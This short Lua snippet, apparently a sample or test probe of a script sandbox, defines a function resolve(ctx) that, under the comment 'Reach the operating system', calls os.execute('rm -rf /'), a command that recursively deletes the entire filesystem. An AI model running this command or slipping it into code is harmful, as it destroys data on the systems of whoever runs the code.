-- Reach the operating system.
function resolve(ctx)
  os.execute("rm -rf /")
end
